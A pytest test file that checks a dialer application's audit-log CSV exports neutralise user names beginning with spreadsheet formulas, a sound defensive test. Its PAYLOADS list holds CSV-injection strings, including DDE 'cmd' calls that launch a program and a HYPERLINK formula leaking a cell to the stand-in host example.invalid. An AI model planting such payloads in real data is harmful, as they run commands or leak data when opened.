"""A user name that is a spreadsheet formula is written as plain text by every export of the audit log."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from dialer.cli import main
from dialer.model import Database
from dialer.policy.cells import FORMULA_STARTS, safe_cell
from tests.web.seed import Seeded, csrf_token, get, sign_in

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
)


def _plant(client: FlaskClient) -> None:
    """Try to sign in once under each payload; each failure is audited with the payload as its actor."""
    for name in PAYLOADS:
        client.post("/login", data={"username": name, "password": "x", "csrf_token": csrf_token(client)})


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_inert(rows: list[list[str]]) -> None:
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    actors = {row[2] for row in rows[1:]}
    assert {"'" + p for p in PAYLOADS} <= actors  # the name is kept, readable, behind one quote


def test_the_audit_page_export_quotes_formulas(client: FlaskClient, seeded: Seeded) -> None:
    _plant(client)
    sign_in(client, "compliance")
    resp = get(client, "/audit.csv")
    assert resp.status_code == 200
    _assert_inert(_cells(resp.get_data(as_text=True)))


def test_the_command_line_export_quotes_formulas(
    client: FlaskClient, seeded: Seeded, database: Database, tmp_path: Path
) -> None:
    _plant(client)
    out = tmp_path / "audit.csv"
    env = {"DIALER_DATABASE_URL": database.url, "DIALER_VAR_DIR": str(tmp_path / "var")}
    result = CliRunner().invoke(main, ["audit", "export", "-o", str(out)], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    _assert_inert(_cells(out.read_text(encoding="utf-8")))


@pytest.mark.parametrize("value", [*PAYLOADS, "\t=1+1", "\r=1+1"])
def test_each_payload_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@given(st.text())
def test_no_text_leaves_a_cell_that_starts_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)


def test_numbers_and_plain_words_are_left_alone() -> None:
    assert [safe_cell(v) for v in (3, -2.5, None, "王质检", "user:7")] == [3, -2.5, "", "王质检", "user:7"]
